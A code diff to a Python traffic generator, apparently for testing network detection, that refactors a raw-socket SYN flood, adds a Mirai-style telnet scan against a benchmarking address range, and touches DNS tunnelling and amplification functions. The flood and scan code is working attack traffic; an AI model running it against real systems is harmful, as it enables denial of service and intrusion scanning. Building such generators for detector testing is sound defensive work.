@@ -84,12 +84,25 @@ def question(name, kind, identity):
             + b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0))
 
 
+def resolver_address():
+    with open("/etc/resolv.conf") as settings:
+        return [line.split()[1] for line in settings if line.startswith("nameserver")][0]
+
+
+def exchangers(*domains):
+    """Who takes mail for each domain."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(5)
+        for i, domain in enumerate(domains):
+            s.sendto(question(domain, 15, i), (resolver_address(), 53))
+            s.recv(4096)
+
+
 def tunnel_by_txt(domain, octets):
     """Data in long names, asked for as TXT through the resolver: what a tunnel's upstream looks like."""
     dice = random.Random(1)
     left = int(octets)
-    with open("/etc/resolv.conf") as settings:
-        resolver = [line.split()[1] for line in settings if line.startswith("nameserver")][0]
+    resolver = resolver_address()
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.settimeout(3)
         while left > 0:
@@ -108,6 +121,7 @@ def amplify(server, count, *sources):
             s.settimeout(3)
             s.sendto(question("long.example", 255 if i % 2 else 16, i), (server, 53))
             total += len(s.recv(65535))
+        time.sleep(0.01)
     print("answers:", total, "octets")
     if total < int(count) * 2000:
         sys.exit("the answers are not long")
@@ -120,22 +134,38 @@ def checksum(octets):
     return ~total & 0xffff
 
 
-def syn_flood(source, target, mac, gateway_mac, count):
-    """SYNs as bots make them, past the kernel: another source port and sequence number each, 1500 a second."""
-    dice = random.Random(7)
-    addresses = socket.inet_aton(source) + socket.inet_aton(target)
+def raw_syns(mac, gateway_mac, syns, per_second):
+    """SYNs past the kernel, each (source, target, source port, port, sequence number)."""
     ethernet = bytes.fromhex(gateway_mac.replace(":", "") + mac.replace(":", "")) + b"\x08\0"
+    burst = max(1, per_second // 30)
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
         s.bind(("line", 0))
         start = time.monotonic()
-        for i in range(int(count)):
-            ip = struct.pack(">BBHHHBB", 0x45, 0, 40, dice.randrange(65536), 0, 64, 6)
+        for i, (source, target, source_port, port, sequence) in enumerate(syns):
+            addresses = socket.inet_aton(source) + socket.inet_aton(target)
+            ip = struct.pack(">BBHHHBB", 0x45, 0, 40, i & 0xffff, 0, 64, 6)
             ip += struct.pack(">H", checksum(ip + b"\0\0" + addresses)) + addresses
-            tcp = [1024 + dice.randrange(64000), 80, dice.randrange(1 << 32), 0, 0x5002, 65535, 0, 0]
+            tcp = [source_port, port, sequence, 0, 0x5002, 65535, 0, 0]
             tcp[6] = checksum(addresses + struct.pack(">HH", 6, 20) + struct.pack(">HHIIHHHH", *tcp))
             s.send(ethernet + ip + struct.pack(">HHIIHHHH", *tcp))
-            if i % 50 == 49:
-                time.sleep(max(0.0, start + i / 1500 - time.monotonic()))
+            if i % burst == burst - 1:
+                time.sleep(max(0.0, start + i / per_second - time.monotonic()))
+
+
+def syn_flood(source, target, mac, gateway_mac, count):
+    """As bots make them: another source port and sequence number each."""
+    dice = random.Random(7)
+    raw_syns(mac, gateway_mac, ((source, target, 1024 + dice.randrange(64000), 80, dice.randrange(1 << 32))
+                                for _ in range(int(count))), 1000)
+
+
+def mirai(source, mac, gateway_mac, count):
+    """Telnet at ever new addresses, 2323 for every tenth, one source port; the sequence number is the address."""
+    dice = random.Random(11)
+    targets = [f"198.19.{dice.randrange(128)}.{1 + dice.randrange(254)}" for _ in range(int(count))]
+    raw_syns(mac, gateway_mac, ((source, target, 40321, 2323 if i % 10 == 9 else 23,
+                                 int.from_bytes(socket.inet_aton(target), "big"))
+                                for i, target in enumerate(targets)), 30)
 
 
 def ftp_guess(server, connections):
